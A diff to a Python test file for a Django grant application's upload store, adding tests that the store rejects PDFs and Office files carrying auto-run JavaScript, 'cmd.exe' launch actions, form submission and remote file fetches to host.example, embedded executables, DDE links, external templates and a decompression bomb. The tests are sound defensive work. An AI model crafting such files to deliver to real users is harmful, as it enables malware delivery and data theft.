@@ -6,6 +6,7 @@ from collections.abc import Callable, Iterator
 from pathlib import Path
 from typing import Any
 
+import pikepdf
 import pytest
 from django.conf import settings
 from django.core.files.uploadedfile import SimpleUploadedFile
@@ -30,6 +31,7 @@ from tests.grants.factories import (
     make_sendable,
     odt,
     office,
+    packed_pdf,
     pdf,
     png,
     sender_of,
@@ -100,7 +102,7 @@ BAD: dict[str, Callable[[], bytes]] = {
     "encrypted office file": lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + "EncryptedPackage".encode("utf-16-le"),
     "archive with password": locked_zip,
     "encrypted pdf": lambda: pdf(password="geheim"),
-    "pdf with script": lambda: pdf(script=True),
+    "pdf that unpacks without end": lambda: packed_pdf(40_000_000),
     "broken pdf": lambda: b"%PDF-1.7\n" + b"garbage" * 50,
     "pdf and archive": lambda: pdf() + archive({"a.txt": b"a"}),
     "pdf after other bytes": lambda: b"GIF89a\n" + pdf(),
@@ -108,9 +110,123 @@ BAD: dict[str, Callable[[], bytes]] = {
     "picture and page": lambda: png()[:60] + b"<script>alert(1)</script>" + png()[60:],
     "picture and more": lambda: png() + b"x" * 200,
     "picture and pdf": lambda: jpg()[:40] + pdf() + b"\xff\xd9",
+    "picture without points": lambda: b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR" + b"\xff" * 50 + b"IEND\xaeB`\x82",
     "cut archive": lambda: office()[:-30],
     "empty": lambda: b"",
 }
+
+Name, Dictionary, Array = pikepdf.Name, pikepdf.Dictionary, pikepdf.Array
+
+
+def action(kind: str, **more: Any) -> pikepdf.Dictionary:
+    return Dictionary(S=Name(f"/{kind}"), **more)
+
+
+def program() -> pikepdf.Dictionary:
+    return action("JavaScript", JS="app.alert(1)")
+
+
+def link(made: pikepdf.Pdf, target: pikepdf.Dictionary) -> None:
+    """A link over the whole page."""
+    place = Array([0, 0, 200, 200])
+    made.pages[0].obj.Annots = Array([Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=place, A=target)])
+
+
+def pinned(made: pikepdf.Pdf) -> None:
+    """A program pinned to the page like a note."""
+    inside = Dictionary(F=made.make_stream(b"MZ"))
+    note = Dictionary(Type=Name.Annot, Subtype=Name.FileAttachment, Rect=Array([0, 0, 9, 9]))
+    note.FS = made.make_indirect(Dictionary(Type=Name.Filespec, F="rechnung.exe", EF=inside))
+    made.pages[0].obj.Annots = Array([note])
+
+
+def chained(made: pikepdf.Pdf) -> None:
+    first = action("GoTo", D=Array([made.pages[0].obj, Name.Fit]), Next=program())
+    made.Root.OpenAction = first
+
+
+ACTING: dict[str, Callable[[pikepdf.Pdf], None]] = {
+    "on opening": lambda made: setattr(made.Root, "OpenAction", program()),
+    "after another action": chained,
+    "on showing a page": lambda made: setattr(made.pages[0].obj, "AA", Dictionary(O=program())),
+    "on a click": lambda made: link(made, program()),
+    "starts a program": lambda made: link(made, action("Launch", F="cmd.exe")),
+    "opens a file elsewhere": lambda made: link(
+        made, action("GoToR", F=r"\\\\host.example\\x", D=Array([0, Name.Fit]))
+    ),
+    "sends itself": lambda made: setattr(made.Root, "OpenAction", action("SubmitForm", F="https://host.example/")),
+    "pinned file": pinned,
+    "field with a program": lambda made: setattr(
+        made.Root, "AcroForm", Dictionary(Fields=Array([Dictionary(T="a", AA=Dictionary(K=program()))]))
+    ),
+    "form in another language": lambda made: setattr(
+        made.Root, "AcroForm", Dictionary(Fields=Array(), XFA=made.make_stream(b"<xdp/>"))
+    ),
+}
+
+
+@pytest.mark.parametrize("name", ACTING)
+def test_pdf_that_does_something_is_refused(name: str) -> None:
+    with pytest.raises(BadFile):
+        filestore.store(upload("antrag.pdf", pdf(change=ACTING[name])))
+
+    assert files_in_store() == []
+
+
+def test_pdf_with_a_web_link_is_taken() -> None:
+    content = pdf(change=lambda made: link(made, action("URI", URI="https://verein.example/")))
+
+    assert filestore.store(upload("antrag.pdf", content)).content_type == PDF.content_type
+
+
+def relations(kind: str, mode: str = "Internal") -> bytes:
+    base = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
+    return (
+        f'<Relationships><Relationship Id="r" Type="{base}/{kind}" Target="x" TargetMode="{mode}"/></Relationships>'
+    ).encode()
+
+
+RELS = "word/_rels/document.xml.rels"
+OUTSIDE: dict[str, dict[str, bytes]] = {
+    "template from elsewhere": {"word/_rels/settings.xml.rels": relations("attachedTemplate", "External")},
+    "picture from elsewhere": {RELS: relations("image", "External")},
+    "written in another encoding": {
+        RELS: relations("attachedTemplate", "External").decode().encode("utf-16"),
+    },
+    "macros under another name": {RELS: relations("vbaProject"), "word/x.xml": b"x"},
+    "object of another program": {RELS: relations("oleObject")},
+    "program inside": {"word/rechnung.exe": b"MZ"},
+    "file without ending": {"word/embeddings/oleObject1": b"MZ"},
+    "broken list of relations": {RELS: b"<Relationships"},
+    "entities in entities": {RELS: b'<!DOCTYPE a [<!ENTITY b "b">]><Relationships>&b;</Relationships>'},
+    "table that starts a program": {
+        "xl/externalLinks/externalLink1.xml": b'<externalLink><ddeLink a="cmd"/></externalLink>'
+    },
+}
+
+
+@pytest.mark.parametrize("name", OUTSIDE)
+def test_office_file_that_runs_or_fetches_something_is_refused(name: str) -> None:
+    with pytest.raises(BadFile):
+        filestore.store(upload("plan.docx", office(more=OUTSIDE[name])))
+
+    assert files_in_store() == []
+
+
+def test_office_file_with_links_fonts_and_a_chart_is_taken() -> None:
+    content = office(
+        more={
+            RELS: relations("hyperlink", "External"),
+            "word/embeddings/Microsoft_Excel_Sheet.xlsx": b"PK",
+            "word/fonts/font1.odttf": b"x",
+            "xl/printerSettings/printerSettings1.bin": b"x",
+            "word/media/": b"",
+            "xl/externalLinks/externalLink1.xml": b"<externalLink><externalBook/></externalLink>",
+            "xl/externalLinks/_rels/externalLink1.xml.rels": relations("externalLinkPath", "External"),
+        }
+    )
+
+    assert filestore.store(upload("plan.docx", content)).content_type == DOCX.content_type
 
 
 @pytest.mark.parametrize("name", BAD)
